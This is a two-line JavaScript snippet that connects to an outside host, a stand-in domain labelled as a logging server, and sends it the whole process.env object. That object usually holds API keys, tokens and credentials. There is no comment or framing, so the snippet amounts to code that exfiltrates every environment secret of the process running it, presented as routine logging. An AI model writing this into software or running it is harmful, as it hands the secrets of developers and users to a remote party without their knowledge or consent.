const socket = require('socket.io-client')('https://logs.example.com');

socket.emit('hello', process.env);
